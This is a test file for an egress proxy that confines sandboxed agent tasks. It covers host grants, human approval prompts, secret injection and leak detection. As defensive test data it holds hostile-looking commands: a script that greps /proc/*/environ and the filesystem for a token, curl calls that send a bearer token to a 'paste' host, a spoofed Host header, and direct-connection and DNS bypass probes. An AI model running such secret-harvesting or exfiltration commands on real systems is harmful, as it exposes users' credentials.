// The egress proxy with real clients (curl, Node fetch, Python urllib, git) in a real
// bwrap sandbox, talking to HTTPS servers on 127.0.0.1 that use their own test CA. Names
// (api.example.test, paste.example.test) are answered by the test-only
// AIRLOCK_EGRESS_TEST_HOSTS; the daemon trusts the test CA upstream via
// AIRLOCK_EGRESS_TEST_CA (both honoured only with AIRLOCK_TEST=1).
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as path from 'node:path';
import { CLI, startDaemon, tempHome, waitFor, type Daemon } from '../helpers/daemon';
import { Human } from '../helpers/human';
import { countingServer, netProbe } from '../helpers/loopback';
import { run } from '../helpers/run';
import { gitBackend } from '../helpers/git-http';
import { makeTestCa, testHttpsServer, type TestCa, type TestHttps } from '../helpers/tls-server';
import type { RpcClient } from '../../main/client/rpc-client';
import type { HistoryEvent } from '../../main/contract/approver';

const hasBwrap = fs.existsSync('/usr/bin/bwrap') || fs.existsSync('/usr/local/bin/bwrap');
const hasTools = ['/usr/bin/curl', '/usr/bin/openssl', '/usr/bin/git'].every((f) => fs.existsSync(f));
const TOKEN = 'ghp_REAL_test_token_0123456789abcdef';

let d: Daemon;
let ui: RpcClient;
let human: Human;
let work: string;
let ca: TestCa;
let api: TestHttps;
let paste: TestHttps;
let env: NodeJS.ProcessEnv;

before(async () => {
  if (!hasBwrap || !hasTools) return;
  const caDir = tempHome('al-ca-');
  ca = makeTestCa(caDir, ['api.example.test', 'paste.example.test', 'localhost']);
  api = await testHttpsServer(ca);
  paste = await testHttpsServer(ca);
  d = await startDaemon({
    env: { AIRLOCK_TEST: '1', AIRLOCK_EGRESS_TEST_CA: ca.caFile, AIRLOCK_EGRESS_TEST_HOSTS: 'api.example.test=127.0.0.1,paste.example.test=127.0.0.1' },
  });
  ui = await d.ui();
  human = await Human.on(ui);
  const home = tempHome('al-eh-');
  work = fs.mkdtempSync(path.join(home, 'proj-'));
  // The sandbox sees the workspace: the test CA goes there for clients of tunnelled hosts.
  fs.copyFileSync(ca.caFile, path.join(work, 'test-ca.pem'));
  env = { ...d.env, HOME: home };
});
after(async () => {
  ui?.close();
  await d?.stop();
  await api?.close();
  await paste?.close();
});

/** Task id → its token: on the shared request.sock the id alone does not act as the task. */
const tokens = new Map<string, string>();

async function startTask(name: string, secrets?: string[]): Promise<string> {
  const agent = await d.agent();
  try {
    const { task, token } = await agent.call<{ task: string; token: string }>('task.start', { name, cwd: work, ...(secrets ? { secrets } : {}) });
    tokens.set(task, token);
    // Running commands in this task is not what these tests are about: a grant covers it.
    await ui.call('grants.create', { task, source: 'exec', action: '*', effect: 'allow' });
    return task;
  } finally {
    agent.close();
  }
}

const sandboxed = (task: string, script: string, timeoutMs = 60_000) =>
  run(process.execPath, [CLI, 'exec', '--sandbox', '--task', task, '--shell', '--', script], { cwd: work, env: { ...env, AIRLOCK_TASK_TOKEN: tokens.get(task) }, timeoutMs });

async function events(task: string): Promise<HistoryEvent[]> {
  return (await ui.call<{ events: HistoryEvent[] }>('history.query', { task, source: 'egress', limit: 1000 })).events;
}

const skip = (!hasBwrap && 'bwrap is not installed (apt install bubblewrap)') || (!hasTools && 'curl, openssl and git are needed');

describe('egress proxy (real sandbox, real clients)', { skip }, () => {
  test('curl, Node fetch and Python urllib reach an allowed HTTPS host; history records every connection', async () => {
    const task = await startTask('allowed host');
    await ui.call('grants.create', { task, source: 'egress', action: 'transfer', resource: `api.example.test:${api.port}`, effect: 'allow' });
    const url = `https://api.example.test:${api.port}`;
    const script = [
      `curl -sS -m 20 --cacert test-ca.pem ${url}/curl`,
      `NODE_EXTRA_CA_CERTS=test-ca.pem node -e 'fetch("${url}/node").then(r=>r.text()).then(t=>process.stdout.write(t),e=>{console.log("node failed",e.message);process.exit(1)})'`,
      `python3 -c 'import ssl,urllib.request;print(urllib.request.urlopen("${url}/python",context=ssl.create_default_context(cafile="test-ca.pem"),timeout=20).read().decode().strip())'`,
    ].join(' && ');
    const r = await sandboxed(task, script);
    assert.equal(r.code, 0, r.stdout + r.stderr);
    for (const p of ['curl', 'node', 'python']) assert.match(r.stdout, new RegExp(`ok api.example.test:${api.port} /${p}`));
    const ev = await events(task);
    const connects = ev.filter((e) => e.tool === 'net.connect');
    assert.equal(connects.length, 3, JSON.stringify(ev.map((e) => e.summary)));
    assert.ok(connects.every((e) => e.decision === 'allow' && e.decidedBy === 'grant' && e.resource === `api.example.test:${api.port}`));
    await waitFor(async () => (await events(task)).filter((e) => e.tool === 'net.tunnel').length === 3, 'three tunnel records');
    const tunnels = (await events(task)).filter((e) => e.tool === 'net.tunnel');
    for (const t of tunnels) {
      const a = t.args as { bytesOut: number; bytesIn: number; address: string };
      assert.equal(a.address, '127.0.0.1');
      assert.ok(a.bytesOut > 100 && a.bytesIn > 100, JSON.stringify(a));
    }
    const { destinations } = await ui.call<{ destinations: { resource: string; allowed: number; bytesOut: number }[] }>('tasks.destinations', { task });
    assert.equal(destinations[0]?.resource, `api.example.test:${api.port}`);
    assert.equal(destinations[0]?.allowed, 3);
  });

  test('an unlisted host prompts with task, host, port, address and what was sent; denied fails with a clear proxy error', async () => {
    const task = await startTask('unlisted host');
    const pending = sandboxed(task, `curl -sS -m 30 --cacert test-ca.pem https://paste.example.test:${paste.port}/x; echo "curl=$?"`);
    const p = await human.next(20_000);
    assert.equal(p.source, 'egress');
    assert.equal(p.tool, 'net.connect');
    assert.equal(p.action, 'transfer');
    assert.equal(p.task, task);
    assert.equal(p.taskName, 'unlisted host');
    assert.equal(p.resource, `paste.example.test:${paste.port}`);
    assert.deepEqual({ host: p.egress?.host, port: p.egress?.port, address: p.egress?.address }, { host: 'paste.example.test', port: paste.port, address: '127.0.0.1' });
    assert.equal(typeof p.egress?.sentBytes, 'number');
    assert.match(p.summary, /the task has sent \d+ B to \d+ destination/);
    assert.ok(p.risk.reasons.some((x) => /loopback/.test(x)), JSON.stringify(p.risk));
    await human.decide(p.id, 'deny');
    const r = await pending;
    assert.match(r.stdout, /curl=56/);
    assert.match(r.stderr, /403/);
    assert.equal(paste.seen.length, 0);
    // Python says why, from the status line.
    const py = sandboxed(task, `python3 -c 'import urllib.request;urllib.request.urlopen("https://paste.example.test:${paste.port}/",timeout=20)' 2>&1 | tail -1`);
    const p2 = await human.next(20_000);
    await human.decide(p2.id, 'deny');
    assert.match((await py).stdout, /403 Denied by Airlock: denied once by the human/);
  });

  test('"this host for this task": a grant made from the prompt covers the next connection, not another port', async () => {
    const task = await startTask('grant from prompt');
    const first = sandboxed(task, `curl -sS -m 30 --cacert test-ca.pem https://api.example.test:${api.port}/one`);
    const p = await human.next(20_000);
    const { grant } = await human.decide(p.id, 'allow', 'task');
    assert.equal((await first).code, 0);
    const g = (await ui.call<{ grants: { id: string; resource: string; task: string | null; source: string }[] }>('grants.list', { task })).grants.find((x) => x.id === grant?.id);
    assert.deepEqual({ resource: g?.resource, task: g?.task, source: g?.source }, { resource: `api.example.test:${api.port}`, task, source: 'egress' });
    const second = await sandboxed(task, `curl -sS -m 30 --cacert test-ca.pem https://api.example.test:${api.port}/two`);
    assert.equal(second.code, 0, second.stderr);
    assert.equal(human.unanswered().length, 0);
  });

  test('an agent cannot speak for the proxy: a request claiming source egress is refused', async () => {
    const agent = await d.agent();
    try {
      await assert.rejects(
        agent.call('request', { source: 'egress', tool: 'net.connect', action: 'transfer', resource: 'example.com:443', summary: 'fake' }),
        (e: Error & { code?: number }) => e.code === -32602 && /egress requests come only from the task's egress proxy/.test(e.message),
      );
    } finally {
      agent.close();
    }
  });

  test('never the network itself: a direct connection and a DNS lookup from inside both fail', async () => {
    const task = await startTask('bypass');
    const server = await countingServer('HTTP/1.0 200 OK\r\n\r\nhi');
    try {
      const probe = netProbe(server.port, { on: 'direct-connected', off: 'direct-refused' }, { on: 0, off: 0 });
      const script = [
        `node -e ${JSON.stringify(probe)}`,
        `curl -sS -m 5 --noproxy '*' http://127.0.0.1:${server.port}/ || echo curl-direct-failed`,
        `getent hosts example.com || echo dns-failed`,
        `node -e 'require("dns").lookup("example.com",(e)=>console.log(e?"node-dns-failed":"node-dns-ok"))'`,
      ].join('; ');
      const r = await sandboxed(task, script);
      assert.match(r.stdout, /direct-refused/);
      assert.match(r.stdout, /curl-direct-failed/);
      assert.match(r.stdout, /dns-failed/);
      assert.match(r.stdout, /node-dns-failed/);
      assert.equal(server.connections(), 0);
    } finally {
      server.close();
    }
  });

  test('secrets: injected only for its host; the placeholder elsewhere arrives unchanged and makes the task critical; nothing in the sandbox holds the value', async () => {
    await ui.call('secrets.add', { name: 'GITHUB_TOKEN', value: TOKEN, hosts: ['api.example.test'], headers: ['Authorization'] });
    const { secrets } = await ui.call<{ secrets: { name: string }[] }>('secrets.list', {});
    assert.deepEqual(secrets.map((s) => s.name), ['GITHUB_TOKEN']);
    assert.ok(!JSON.stringify(secrets).includes(TOKEN), 'secrets.list never shows a value');
    // Sealed at rest: the value is not in any file of Airlock's home.
    for (const f of fs.readdirSync(path.join(d.home, 'secrets'))) assert.ok(!fs.readFileSync(path.join(d.home, 'secrets', f), 'utf8').includes(TOKEN), f);
    const task = await startTask('secret task', ['GITHUB_TOKEN']);
    const plainSeen: (string | null)[] = [];
    const plain = http.createServer((req, res) => {
      plainSeen.push(req.headers.authorization ?? null);
      res.end(`ok ${req.headers.host} ${req.url}\n`);
    });
    await new Promise<void>((r) => plain.listen(0, '127.0.0.1', () => r()));
    after(() => plain.close());
    const plainPort = (plain.address() as import('node:net').AddressInfo).port;
    await ui.call('grants.create', { task, source: 'egress', action: 'transfer', resource: `{api.example.test:${api.port},paste.example.test:${plainPort}}`, effect: 'allow' });
    api.seen.length = 0;
    paste.seen.length = 0;
    // A pattern that matches the value without containing it (the scan's own command line is readable too).
    const pattern = `${TOKEN.slice(0, -1)}[${TOKEN.slice(-1)}]`;
    const scan = [
      // The real value in no environment, no process, no readable file.
      `grep -c '${pattern}' /proc/self/environ || true`,
      `cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -c '${pattern}' || true`,
      `grep -rIl --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev --exclude-dir=usr '${pattern}' / 2>/dev/null | head -3; echo scanned`,
      `echo "placeholder=$GITHUB_TOKEN"`,
      `curl -sS -m 20 -H "Authorization: Bearer $GITHUB_TOKEN" https://api.example.test:${api.port}/user`,
      // HTTPS to a host without a secret is tunnelled untouched (the proxy cannot see inside);
      // over plain HTTP it sees the placeholder go by.
      `curl -sS -m 20 -H "Authorization: Bearer $GITHUB_TOKEN" http://paste.example.test:${plainPort}/paste`,
    ].join('\n');
    // From a file: the daemon's classifier rightly makes a command line that reads /proc/*/environ a prompt of its own.
    fs.writeFileSync(path.join(work, 'scan.sh'), scan + '\n');
    const r = await sandboxed(task, 'sh scan.sh');
    assert.equal(r.code, 0, r.stderr);
    const lines = r.stdout.split('\n');
    assert.equal(lines[0], '0', r.stdout);
    assert.equal(lines[1], '0', r.stdout);
    assert.equal(lines[2], 'scanned', `a readable file holds the value: ${r.stdout}`);
    const placeholder = /placeholder=(\S+)/.exec(r.stdout)?.[1] ?? '';
    assert.match(placeholder, /^airlock-placeholder-GITHUB_TOKEN-[0-9a-f]{32}$/);
    assert.equal(api.seen.at(-1)?.authorization, `Bearer ${TOKEN}`, 'the real token reaches its host');
    assert.equal(plainSeen.at(-1), `Bearer ${placeholder}`, 'the placeholder elsewhere arrives unchanged');
    const leak = (await events(task)).find((e) => e.tool === 'net.placeholder-leak');
    assert.equal(leak?.risk.level, 'critical');
    assert.match(leak?.reason ?? '', /the placeholder for GITHUB_TOKEN was sent to paste\.example\.test/);
    const req = (await events(task)).find((e) => e.tool === 'net.request' && (e.args as { injected: string[] }).injected.includes('GITHUB_TOKEN'));
    assert.ok(req, 'the injection is recorded by name');
    assert.ok(!JSON.stringify(await ui.call('history.query', { task, limit: 1000 })).includes(TOKEN), 'history never holds the value');
    // From now on the task is critical: its grants no longer let anything through silently,
    // neither the command nor the connection.
    const next = sandboxed(task, `curl -sS -m 30 https://api.example.test:${api.port}/again; echo "curl=$?"`);
    const cmd = await human.next(20_000);
    assert.equal(cmd.source, 'exec');
    assert.equal(cmd.risk.level, 'critical');
    await human.decide(cmd.id, 'allow');
    const p = await human.next(20_000);
    assert.equal(p.source, 'egress');
    assert.equal(p.risk.level, 'critical');
    assert.ok(p.risk.reasons.some((x) => /placeholder for GITHUB_TOKEN/.test(x)));
    await human.decide(p.id, 'deny');
    assert.match((await next).stdout, /curl=56/);
  });

  test('a Host header for another name inside a secret host\'s tunnel gets no secret (domain fronting)', async () => {
    const task = await startTask('fronting', ['GITHUB_TOKEN']);
    await ui.call('grants.create', { task, source: 'egress', action: 'transfer', resource: `api.example.test:${api.port}`, effect: 'allow' });
    api.seen.length = 0;
    const r = await sandboxed(task, `curl -sS -m 20 -o /dev/null -w '%{http_code}' -H "Host: paste.example.test" -H "Authorization: Bearer $GITHUB_TOKEN" https://api.example.test:${api.port}/`);
    assert.equal(r.stdout, '421');
    assert.equal(api.seen.length, 0);
  });

  test('git ls-remote over HTTPS to a smart-HTTP server, with the token injected', async () => {
    const repo = path.join(tempHome('al-git-'), 'r.git');
    await run('git', ['init', '-q', '--bare', repo], { timeoutMs: 10_000 });
    const seed = tempHome('al-gs-');
    for (const args of [['init', '-q'], ['-c', 'user.email=t@t', '-c', 'user.name=t', 'commit', '-q', '--allow-empty', '-m', 'one'], ['push', '-q', repo, 'HEAD:refs/heads/main']]) {
      const g = await run('git', args, { cwd: seed, timeoutMs: 10_000 });
      assert.equal(g.code, 0, g.stderr);
    }
    const git = await testHttpsServer(ca, gitBackend(path.dirname(repo), `Bearer ${TOKEN}`));
    try {
      const task = await startTask('git', ['GITHUB_TOKEN']);
      await ui.call('grants.create', { task, source: 'egress', action: 'transfer', resource: `api.example.test:${git.port}`, effect: 'allow' });
      const r = await sandboxed(task, `git -c http.extraHeader="Authorization: Bearer $GITHUB_TOKEN" ls-remote https://api.example.test:${git.port}/r.git`);
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stdout, /^[0-9a-f]{40}\trefs\/heads\/main$/m);
      assert.ok(git.seen.every((s) => s.authorization === `Bearer ${TOKEN}`));
    } finally {
      await git.close();
    }
  });

  test('held: inside the sandbox another task\'s egress.sock is not there, and a protocol that is not HTTP gets a 400 from the proxy', async () => {
    const mine = await startTask('relay owner');
    const agent = await d.agent();
    let otherSock: string;
    try {
      otherSock = (await agent.call<{ egress: { sock: string } }>('task.start', { name: 'another task', cwd: work })).egress.sock;
    } finally {
      agent.close();
    }
    assert.ok(fs.existsSync(otherSock), otherSock);
    const speak = `node -e 'const s=require("net").connect(+new URL(process.env.HTTP_PROXY).port,"127.0.0.1");s.on("data",(b)=>{process.stdout.write(b);s.destroy()});s.on("error",()=>{});setTimeout(()=>s.destroy(),5000);s.write("SSH-2.0-OpenSSH_9.6\\r\\n\\r\\n")'`;
    const r = await sandboxed(mine, [
      `test -e ${otherSock} && echo other-visible || echo other-hidden`,
      `curl -sS -m 5 --unix-socket ${otherSock} http://x/ >/dev/null 2>&1; echo "unix=$?"`,
      speak,
    ].join('; '));
    assert.match(r.stdout, /other-hidden/);
    assert.match(r.stdout, /unix=(7|6)\b/);
    assert.match(r.stdout, /HTTP\/1\.1 400/);
    assert.equal(human.unanswered().length, 0);
  });

  test('kill -9 of the daemon closes every tunnel; after restart no recorded event is lost', async () => {
    const slow = await testHttpsServer(ca, (_req, res) => {
      res.writeHead(200, { 'Content-Type': 'text/plain' });
      res.write('first\n');
      return true; // never ends: the tunnel stays open
    });
    try {
      const task = await startTask('killed');
      await ui.call('grants.create', { task, source: 'egress', action: 'transfer', resource: `api.example.test:${slow.port}`, effect: 'allow' });
      const before = (await ui.call<{ events: HistoryEvent[] }>('history.query', { limit: 1000 })).events.length;
      const pending = sandboxed(task, `curl -sS -N -m 60 --cacert test-ca.pem https://api.example.test:${slow.port}/; echo "curl=$?"`);
      await waitFor(() => slow.seen.length > 0, 'the request to arrive', 30_000);
      const recorded = (await ui.call<{ events: HistoryEvent[] }>('history.query', { limit: 1000 })).events;
      ui.close();
      // From the kill: the sandbox's start on a loaded machine is not what the bound is about.
      const t0 = Date.now();
      await d.kill();
      const r = await pending;
      assert.match(r.stdout, /first/);
      assert.match(r.stdout, /curl=(18|56|52)/, r.stdout + r.stderr);
      assert.ok(Date.now() - t0 < 30_000, 'the tunnel closed with the daemon, not at curl\'s timeout');
      d = await d.restart();
      ui = await d.ui();
      human = await Human.on(ui);
      const after = (await ui.call<{ events: HistoryEvent[] }>('history.query', { limit: 1000 })).events;
      for (const e of recorded) assert.ok(after.some((x) => x.id === e.id && x.hash === e.hash), `event ${e.id} survived`);
      assert.ok(after.length >= before + 1);
      assert.ok(after.some((e) => e.task === task && e.tool === 'net.connect' && e.decision === 'allow'));
      assert.deepEqual(await ui.call('audit.verify', {}), { ok: true, count: after.length });
    } finally {
      await slow.close();
    }
  });

  test('after a daemon restart a running sandbox is told to restart its task: a clear 502, never a way out', async () => {
    const task = await startTask('outlives its daemon');
    await ui.call('grants.create', { task, source: 'egress', action: 'transfer', resource: `api.example.test:${api.port}`, effect: 'allow' });
    const go = path.join(work, 'go-after-restart');
    const ready = path.join(work, 'ready-before-restart');
    fs.rmSync(go, { force: true });
    fs.rmSync(ready, { force: true });
    // Says it runs, waits (bounded) for the file, then tries the same allowed host again.
    const pending = sandboxed(
      task,
      `touch ready-before-restart; for i in $(seq 600); do [ -e go-after-restart ] && break; sleep 0.1; done; curl -sS -m 20 --cacert test-ca.pem https://api.example.test:${api.port}/after; echo "curl=$?"`,
      90_000,
    );
    await waitFor(() => fs.existsSync(ready), 'the sandbox to start', 30_000);
    ui.close();
    await d.kill();
    d = await d.restart();
    ui = await d.ui();
    human = await Human.on(ui);
    const seenBefore = api.seen.length;
    fs.writeFileSync(go, '');
    const r = await pending;
    assert.match(r.stdout, /curl=56/, r.stdout + r.stderr);
    assert.match(r.stderr, /CONNECT tunnel failed, response 502/);
    assert.match(r.stderr, /airlock: Airlock egress proxy unreachable: Airlock was restarted or this task ended; restart the task/);
    assert.equal(api.seen.length, seenBefore, 'nothing reached the server');
    assert.equal(human.unanswered().length, 0);
  });
});
